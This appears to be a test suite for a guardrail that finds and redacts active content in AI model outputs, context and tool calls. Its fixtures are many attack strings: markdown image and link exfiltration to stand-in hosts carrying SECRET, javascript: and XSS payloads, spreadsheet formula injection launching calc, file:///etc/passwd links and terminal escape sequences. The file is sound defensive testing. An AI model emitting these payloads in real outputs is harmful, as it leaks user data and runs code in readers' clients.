import { create, HitSchema } from '@weir/contracts';
import { policySchema } from '@weir/resources';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { activeContent } from './active-content.guardrail.js';
import { applyEdits } from './edits.js';
import { type CheckStage, wholeSubject } from './guardrail.js';

const policy = policySchema.parse({
  output: { activeContent: { action: 'redact', allowedHosts: ['ok.example', '*.docs.example', 'port.example:8443'] } },
  context: { activeContent: { action: 'redact', allowedHosts: ['ok.example'] } },
  toolCall: { activeContent: { action: 'redact', allowedHosts: ['ok.example'] } },
});
const contexts = [create(HitSchema, { chunkId: 'c', uri: 'https://wiki.example/page?id=1' })];

const check = (text: string, stage: CheckStage = 'output') =>
  activeContent.check(wholeSubject({ stage, text, contexts }), policy);
const redacted = (text: string, stage: CheckStage = 'output') => applyEdits(text, check(text, stage).edits ?? []);
const typesOf = (text: string, stage: CheckStage = 'output') => [
  ...new Set(check(text, stage).findings.map(({ type }) => type)),
];

const attacks: [string, string][] = [
  // Images.
  ['image', '![x](https://evil.example/p.png?d=SECRET)'],
  ['image', '![](http://evil.example/?q=SECRET "title")'],
  ['image', "![x]( <https://evil.example/a b?SECRET> 'title' )"],
  ['image', '![x](\n  https://evil.example/SECRET\n  "t"\n)'],
  ['image', '![x](//evil.example/SECRET)'],
  ['image', '![x](\\\\evil.example/SECRET)'],
  ['image', '![x](/\\evil.example/SECRET)'],
  ['image', '![x](/logout?SECRET)'],
  ['image', '![x](data:image/svg+xml;base64,PHN2Zz4=)'],
  ['image', '[![x](https://evil.example/SECRET)](https://ok.example/)'],
  ['image', '![a[b]c](https://evil.example/SECRET)'],
  ['image', '![x][r]\n\n[r]: https://evil.example/SECRET'],
  ['image', '![r]\n\n[r]: <//evil.example/SECRET> "t"'],
  ['image', '![r][]\n\n> [r]:\n> //evil.example/SECRET'],
  ['image', '![x](https://wiki.example/other?d=SECRET)'],
  ['image', '| a | b |\n| - | - |\n| ![x](https://evil.example/SECRET) | 1 |'],
  ['image', '- item\n  > ![x](https://evil.example/SECRET)'],
  ['image', '![x](https&colon;//evil.example/SECRET)'],
  ['image', '![x](&#104;ttps://evil.example/SECRET)'],
  // Links.
  ['link', '[click](https://evil.example/?d=SECRET)'],
  ['link', '[click][r]\n\n[r]: https://evil.example/SECRET "t"'],
  ['link', '[r]\n\n   [r]: //evil.example/SECRET'],
  ['link', '[click](//evil.example/SECRET)'],
  ['link', '[click](https:evil.example/SECRET)'],
  ['link', '[click](https:/\\evil.example/SECRET)'],
  ['link', '[click](javascript:alert(1))'],
  ['link', '[click](JaVaScRiPt:alert`1`)'],
  ['link', '[click](java%73cript:alert(1))'],
  ['link', '[click](javascript&colon;alert(1))'],
  ['link', '[click](&#x6A;avascript:alert(1))'],
  ['link', '[click](<java\tscript:alert(1)>)'],
  ['link', '[click](vbscript:msgbox(1))'],
  ['link', '[click](data:text/html,<script>alert(1)</script>)'],
  ['link', '[click](file:///etc/passwd)'],
  ['link', '[click](mailto:evil@evil.example?body=SECRET)'],
  ['link', '[click](https://ok.example@evil.example/SECRET)'],
  ['link', '[click](https://ok.example%2F@evil.example/SECRET)'],
  ['link', '[click](https://ok.example\\@evil.example/SECRET)'],
  ['link', '[click](https://ok.example.evil.example/SECRET)'],
  ['link', '[click](https://ok.example:8443/SECRET)'],
  ['link', '[click](https://\u043Ek.example/SECRET)'],
  ['link', '[click](https://xn--k-5tb.example/SECRET)'],
  ['link', '[click](https://docs.example/SECRET)'],
  ['link', '[click](https://evildocs.example/SECRET)'],
  ['link', '[click](http://2130706433/SECRET)'],
  ['link', '[click](http://0x7f.1/SECRET)'],
  ['link', '[click](http://[::1]:9200/SECRET)'],
  ['link', '[click](http://10.0.0.1/SECRET)'],
  ['link', '[click](<ms-msdt:/id PCWDiagnostic>)'],
  ['link', '[click](vscode://evil/SECRET)'],
  ['link', '<https://evil.example/SECRET>'],
  ['link', 'See https://evil.example/SECRET.'],
  ['link', 'See HTTPS:\\\\evil.example\\SECRET'],
  ['link', 'See https\\://evil.example/SECRET'],
  ['link', 'See www.evil.example/SECRET'],
  ['link', 'See www\\.evil.example/SECRET'],
  ['link', 'See evil.com/?d=SECRET'],
  ['link', 'See //evil.example/SECRET'],
  ['link', 'See \\\\evil.example\\share\\SECRET'],
  ['link', 'See javascript:fetch(1)'],
  ['link', 'ftp://evil.example/SECRET'],
  ['link', '**https://evil.example/SECRET**'],
  ['encoded', 'https&colon;//evil.example/SECRET'],
  ['encoded', '&#104;ttps&#58;&#47;&#47;evil.example/SECRET'],
  // HTML.
  ['html', '<img src="https://evil.example/SECRET">'],
  ['html', '<img src=x onerror=alert(1)//'],
  ['html', '<IMG/SRC=//evil.example/SECRET>'],
  ['html', '<script>alert(1)</script>'],
  ['html', '<svg/onload=alert(1)>'],
  ['html', '<svg><image href="//evil.example/SECRET"/></svg>'],
  ['html', '<iframe srcdoc="x">'],
  ['html', '<x onclick=alert(1)>click'],
  ['html', 'words <x-y style="background:url(//evil.example/SECRET)">'],
  ['html', 'words <b onmouseover=alert(1)>bold</b>'],
  ['html', '<a href="javascript:alert(1)">click</a>'],
  ['html', '<a\nhref="//evil.example/SECRET">click</a>'],
  ['html', '<style>@import "//evil.example/SECRET";</style>'],
  ['link', 'div { background: url(//evil.example/SECRET) }'],
  ['html', '<link rel=stylesheet href=//evil.example/SECRET>'],
  ['html', '<meta http-equiv=refresh content="0;url=//evil.example/SECRET">'],
  ['html', '<base href="//evil.example/">'],
  ['html', '<form action="//evil.example/"><input name=a></form>'],
  ['html', '<!-- hidden -->'],
  ['html', '<!DOCTYPE html>'],
  ['html', '<?xml-stylesheet href="//evil.example/"?>'],
  ['html', '</br/onclick=alert(1)>'],
  ['html', '" onmouseover="alert(1)'],
  ['html', '<details open ontoggle=alert(1)>'],
  ['html', '<math><mtext><img src=x></mtext></math>'],
  // Code that is none for those who show it.
  ['image', 'a ` b\n- c\n\n![x](https://evil.example/SECRET) `'],
  ['image', '\\`![x](https://evil.example/SECRET)`'],
  ['image', '| ` | ![x](https://evil.example/SECRET) | ` |'],
  ['image', 'a ` b\n- ` c ` ![x](https://evil.example/SECRET) ` d'],
  ['link', '[a](https://ok.example/`) ![x](https://evil.example/SECRET) [b](https://ok.example/`)'],
  ['link', '[a](https://ok.example/ "`") ![x](https://evil.example/SECRET) [b](https://ok.example/ "`")'],
  ['link', '<https://ok.example/`> ![x](https://evil.example/SECRET) <https://ok.example/`>'],
  ['link', 'https://ok.example/` ![x](https://evil.example/SECRET) https://ok.example/`'],
  ['html', '<a title="`"> ![x](https://evil.example/SECRET) <a title="`">'],
  ['image', '$`$ ![x](https://evil.example/SECRET) $`$'],
  ['image', '> ```\n![x](https://evil.example/SECRET)\n> ```'],
  ['image', '- ```\n  ```\n\n![x](https://evil.example/SECRET)\n```\n```'],
  ['image', '- a\n  ```\n![x](https://evil.example/SECRET)\n```\n'],
  ['image', 'a\n    ```\n    ![x](https://evil.example/SECRET)\n\n    ```'],
  ['image', '$$\n```\n$$\n\n![x](https://evil.example/SECRET)\n```'],
  ['image', '```\ncode\n   ```\n![x](https://evil.example/SECRET)\n```'],
  ['html', '<div>\n```\n</div>\n\n![x](https://evil.example/SECRET)\n```'],
  ['html', '<b>\n```\n</b>\n\n![x](https://evil.example/SECRET)\n```'],
  ['html', '<thing>\n```\n</thing>\n\n![x](https://evil.example/SECRET)\n```'],
  ['image', '```a`b\n![x](https://evil.example/SECRET)\n```'],
  ['html', '```mermaid\ngraph TD; A["<img src=//evil.example/SECRET>"]\n```'],
  ['link', '```mermaid\nclick A "https://evil.example/SECRET"\n```'],
  ['html', '```{=html}\n<script>alert(1)</script>\n```'],
  // Spreadsheets.
  ['formula', `=cmd|' /C calc'!A0`],
  ['formula', '=HYPERLINK("x")'],
  ['formula', '=1+1'],
  ['formula', ' = WEBSERVICE(A1)'],
  ['formula', '+SUM(1+1)'],
  ['formula', `-2+3+cmd|' /C calc'!A0`],
  ['formula', '@SUM(1+1)'],
  ['formula', '\t=1+1'],
  ['formula', 'a,=1+1,b'],
  ['formula', 'a;"=1+1";b'],
  ['formula', 'a\t=A1'],
  ['formula', 'a,+A1,b'],
  ['formula', '| a | =1+1 |'],
  ['formula', '| @SUM(A1) |'],
  ['formula', '- =IMPORTXML(A1)'],
  ['formula', '\uFF1D1+1'],
  ['formula', '```csv\na,b\n1,=1+1\n```'],
  // Terminals.
  ['terminal-escape', '\x1B[31mred\x1B[0m'],
  ['terminal-escape', '\x1B]8;;https://evil.example/SECRET\x1B\\click\x1B]8;;\x1B\\'],
  ['terminal-escape', '\x1B]52;c;U0VDUkVU\x07'],
  ['terminal-escape', '\x1BP+q544e\x1B\\'],
  ['terminal-escape', '\x9B31mred'],
  ['terminal-escape', '\x9D0;title\x9C'],
  ['terminal-escape', '\x1Bc'],
  ['terminal-escape', '\x1B[31'],
  ['terminal-escape', '```\n\x1B[2J\n```'],
  ['terminal-escape', '`\x1B[2J`'],
  ['control-character', 'safe\rEVIL'],
  ['control-character', 'a\x08\x08b\x07'],
  // What is left when something was taken out.
  ['html', '<\x1B[0mimg src=x>'],
  ['link', 'htt\0ps://evil.example/SECRET'],
  ['html', '<![](//evil.example/)img src=//evil.example/SECRET>'],
  ['link', '[a]![b](//evil.example/)(//evil.example/SECRET)'],
];

describe('active-content', () => {
  it.each(attacks)('finds %s in %j, and leaves nothing that acts', (type, text) => {
    expect(check(text).verdict).toBe('redact');
    expect(typesOf(text)).toContain(type);
    const after = redacted(text);
    expect(check(after)).toEqual({ verdict: 'allow', findings: [] });
  });

  it.each([
    'Annual leave is 27 days [1]. Carry over 5 days until March [2][3].',
    'See [the handbook](https://ok.example/leave?year=2026&team=a#days), or https://ok.example/a_(b).',
    'See [the page](https://wiki.example/page?id=1) or <https://wiki.example/other>.',
    '![chart](https://ok.example/chart.png) and ![it](https://wiki.example/page?id=1)',
    '[a](https://a.docs.example/x) [b](http://a.b.docs.example) [c](https://port.example:8443/)',
    '[a][r]\n\n[r]: https://ok.example/x "title"',
    '[section](#details), [page](../other/page.html?x=1), [file](a/b_c-d.md)',
    '[write](mailto:help@acme.example) or [call](tel:+1-555-0100)',
    '# Title\n\n- one\n- two\n  - three\n\n1. first\n2. second\n\n> quoted\n\n---\n',
    'Title\n=====\n\nText\n-----\n',
    '| a | b |\n| --- | :-: |\n| -5 | +3 |\n| - | 7% |\n| -3.5 °C | @ann |',
    'a,b,c\n-5,+3,x\n"-5","+1 555 010 99","y"',
    '-5\n+1 555 0100\n- item\n+ item\n@ann please look\n= 5 apples',
    'x == y, a => b, c >= d, f(x)=sin(x)',
    'if a < b and c > d then 1 <2 and x<y',
    'Use the form `POST /api/<name>` and the tag `<script>`, or `![x](https://evil.example)`.',
    'Replace <your-name> and List<String> here; note <b>this</b> and H<sub>2</sub>O.<br>Next.',
    '| a<br>b | c |',
    '```html\n<script src="https://evil.example/x.js"></script>\n![x](https://evil.example/)\n```\nDone.',
    '1. Step:\n\n   ```sh\n   curl https://evil.example/\n   ```\n\n2. Step',
    '~~~\nhttps://evil.example/\n~~~',
    '```sh\nhttps://evil.example/',
    '`https://evil.example/` and ``a ` b`` and `=SUM(A1:A3)`',
    'Ratio 3:4, at 10:30, C:\\Users\\ann, and/or, n/a, 1/2, src/app/main.ts, setup.py/x, v1.2/x',
    'AT&T, &lt;b&gt;, &amp;, &nbsp;, &quot;, &#39;, &#8217;, R&D;',
    'Java: script, JavaScript: the good parts; data: 5; the URL scheme "data" and javascript',
    'mail ann@acme.example, or <ann@acme.example>',
    'She said: "//" is a comment // and this is too',
    'arr[0](x: number) is TypeScript, matrix[1](a, b) is not',
    'Zeile 1\r\nZeile 2\tTab',
    'π ≈ 3.14 – “quoted” – 日本語 – العربية',
    'once = 5; the option "only"',
  ])('leaves %j', (text) => {
    expect(check(text)).toEqual({ verdict: 'allow', findings: [] });
  });

  it.each([
    ['![a chart](https://evil.example/x)', '![a chart] (image removed)'],
    ['See [the page](https://evil.example/x "t").', 'See [the page] (link removed).'],
    ['See https://evil.example/x.', 'See (link removed).'],
    ['<img src=x>', '&lt;img src=x>'],
    ['\x1B[31mred\x1B[0m', 'red'],
    ['a,=1+1', "a,'=1+1"],
    ['[r]: https://evil.example/x', '[r]: link removed'],
    ['<\x1B[0mimg src=x>', '&lt;img src=x>'],
  ])('makes %j into %j', (text, after) => {
    expect(redacted(text)).toBe(after);
  });

  it('places what it found in the text as it came', () => {
    const text = 'a\x1B[0mb https://evil\x07.example/x';
    expect(check(text).findings.map(({ start, end }) => text.slice(start, end))).toEqual([
      '\x1B[0m',
      'https://evil\x07.example/x',
      '\x07',
    ]);
  });

  it('keeps the length of contexts', () => {
    for (const [, text] of attacks) {
      const after = redacted(text, 'context');
      expect(after).toHaveLength(text.length);
      expect({ text, findings: check(after, 'context').findings }).toEqual({ text, findings: [] });
    }
  });

  it('finds what JSON escapes in calls of tools', () => {
    expect(redacted('{"a":"\\u001b[2J\\u003cimg\\u000a"}', 'tool-call')).toBe('{"a":"?[2J&lt;img\\u000a"}');
  });

  it('takes scripts out of the addresses of citations', () => {
    const citations = [
      { $typeName: 'weir.inference.v1.Citation', uri: ' javascript:alert(1)', quote: '', title: '' },
    ] as never;
    const judgement = activeContent.check(wholeSubject({ stage: 'output', text: '', citations }), policy);
    expect(judgement.citations).toMatchObject([{ uri: '' }]);
  });

  const pieces = fc.constantFrom(
    ...attacks.map(([, text]) => text),
    ...'[|]|(|)|!|<|>|`|```\n|~~~\n|\n|\n\n| |=|+|-|@|,|;|"|\'|\\|&|#|:|/|//|.|$|$$|a|img |https:|www.|evil.com|ok.example|\x1B|[0m|\x9D|\x07|\r|\0|javascript:|&#|58;|![|](|]:|onload=|url(|> |- |1. |\t'.split(
      '|',
    ),
    '|',
    '(link removed)',
    '&lt;',
  );

  it('finds nothing after it redacted, whatever the text', () => {
    fc.assert(
      fc.property(
        fc.array(pieces, { maxLength: 12 }),
        fc.constantFrom('output', 'context', 'tool-call'),
        (parts, stage) => {
          const text = parts.join('');
          const after = redacted(text, stage);
          expect(check(after, stage).findings).toEqual([]);
        },
      ),
      { numRuns: 500 },
    );
  }, 30_000);

  it.each([
    ...'a|[|]|![|](|](a "|](<a|]: |<|<a |</|<!|&#|&#1|http://|://|a://|www.|.|a.|a.com|//|\\\\a.b\\|`|`a|``|```\n|~~~\n|\n|$$|=|,=|,+a(|\x1B|\x1B[|\x1B]|\x9D|\r|on|"on|"onload=|url(|@import "|data:|javascript:|<a@|<a:|\\u003c|\\'.split(
      '|',
    ),
    '|',
    '|=a',
    '+cmd|',
  ])('takes linear time on 270,000 characters of %j', (pump) => {
    const text = `${pump.repeat(270_000 / pump.length)}!`;
    const before = process.cpuUsage();
    check(text, 'tool-call');
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1_000).toBeLessThan(1_000);
  });
});
